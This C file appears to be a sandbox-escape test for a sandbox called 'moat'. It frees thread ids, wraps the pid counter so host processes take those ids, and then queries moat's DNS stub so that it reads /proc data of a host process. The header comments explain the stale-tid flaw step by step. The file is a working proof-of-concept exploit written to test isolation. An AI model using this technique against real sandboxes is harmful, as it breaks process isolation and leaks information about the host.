/* esc_dns_stale_tid — make moat read a host process through the DNS stub.
 *
 * A moat-side attempt (run.sh: side=moat).  When a sandbox thread connects
 * a UDP socket to moat's stub resolver (127.0.0.53:53), moat notes the
 * socket's port with the thread's pid and tid (net_dns_note_source).  When
 * a question later arrives on that port, the stub reads "the asker's"
 * stack for the audit record: /proc/TID/syscall (its stack pointer and
 * program counter, a ptrace-mode read), the contained walker's
 * process_vm_readv of TID, and /proc/TID/comm — by the tid it noted, on
 * the loop, holding no call of that thread (net_dns_serve,
 * stack_capture_blocked, audit_dns).  Nothing checks that the tid is still
 * a sandbox task: the thread may be long gone, reaped, and its tid taken
 * by any process of the host.
 *
 * So: THREADS threads each connect a socket to the stub and exit, leaving
 * their sockets to the main thread; their tids are free.  We then make
 * (and reap) children until the pid counter has wrapped and stands just
 * below the lowest of those tids, and say "# ready": the host's part
 * (dns_stale_poke) starts sleeps, which take the freed tids.  Each socket
 * then asks a question.  moat answers REFUSED and writes a record whose
 * tid is a host `sleep`, with that process's comm and its program counter
 * read through /proc/TID/syscall with moat's CAP_SYS_PTRACE.  The judge
 * (dns_stale_judge) finds such a record.
 *
 * The wrap costs ~0.3 ms a pid under moat (32768 pids: ~10 s); the
 * expectations lower this namespace's pid_max to keep the run short.
 *
 * Natively (--native) there is no stub: the threads and the wrap run as a
 * check of themselves (no question is sent): UNSUPPORTED.
 *
 * usage: esc_dns_stale_tid [--native] THREADS
 */
#include "esc.h"
#include <poll.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdint.h>
#include <sys/wait.h>
#include <time.h>

#define MAXT 64
static int socks[MAXT];
static pid_t tids[MAXT];
static int native;

static void *asker(void *arg)
{
	int i = (int)(intptr_t)arg;
	tids[i] = gettid();
	socks[i] = -1;
	if (native)
		return NULL;
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(53) };
	inet_pton(AF_INET, "127.0.0.53", &a.sin_addr);
	if (s >= 0 && connect(s, (struct sockaddr *)&a, sizeof a) < 0) {
		close(s);
		s = -1;
	}
	socks[i] = s;
	return NULL; /* the thread ends: its tid is free once moat reaps it */
}

/* One A question for "stale.example", its answer awaited 300 ms. */
static int ask(int s, int k)
{
	unsigned char q[64] = { (unsigned char)(k >> 8), (unsigned char)k, 1, 0, 0, 1 };
	size_t n = 12;
	static const char name[] = "\5stale\7example";
	memcpy(q + n, name, sizeof name); /* with its final 0 */
	n += sizeof name;
	q[n++] = 0, q[n++] = 1, q[n++] = 0, q[n++] = 1; /* A, IN */
	if (send(s, q, n, 0) != (ssize_t)n)
		return -errno;
	struct pollfd pf = { s, POLLIN, 0 };
	unsigned char a[512];
	if (poll(&pf, 1, 300) == 1 && recv(s, a, sizeof a, 0) > 0)
		return 1;
	return 0;
}

int main(int argc, char **argv)
{
	int i = 1;
	if (argc > 1 && strcmp(argv[1], "--native") == 0)
		native = 1, i++;
	int nt = argc == i + 1 ? atoi(argv[i]) : 0;
	if (nt < 1 || nt > MAXT)
		esc_usage("esc_dns_stale_tid [--native] THREADS (1..64)");
	setvbuf(stderr, NULL, _IONBF, 0);
	/* Past the namespace's first 300 pids, which a wrap never gives again. */
	for (int k = 0; k < 400; k++)
		esc_child_once();
	pid_t lo = 0, hi = 0;
	for (int k = 0; k < nt; k++) {
		pthread_t t;
		if (pthread_create(&t, NULL, asker, (void *)(intptr_t)k) != 0)
			esc_usage("pthread_create failed");
		pthread_join(t, NULL);
		if (!native && socks[k] < 0)
			esc_usage("no socket to the stub resolver (127.0.0.53:53)");
		if (!lo || tids[k] < lo)
			lo = tids[k];
		if (tids[k] > hi)
			hi = tids[k];
	}
	fprintf(stderr, "# %d threads gone, their tids %d..%d free\n", nt, lo, hi);
	usleep(100 * 1000); /* moat reaps them */
	double t0 = esc_now();
	pid_t last = esc_pid_wrap_below(lo);
	if (last < 0)
		esc_usage("the pid counter did not come back below the freed tids");
	fprintf(stderr, "# pid counter wrapped to %d in %.1f s\n", last, esc_now() - t0);
	if (native)
		esc_unsupported("natively there is no moat stub to ask (%d tids freed, counter "
				"wrapped back to %d)",
				nt, last);
	fprintf(stderr, "# ready\n");
	sleep(2); /* the host's part starts its processes */
	int answered = 0;
	for (int k = 0; k < nt; k++)
		answered += ask(socks[k], k) == 1;
	fprintf(stderr, "# %d of %d questions answered\n", answered, nt);
	esc_held("%d questions asked from ports of threads that are gone (the judge reads moat's "
		 "audit log)",
		 nt);
	return esc_finish();
}
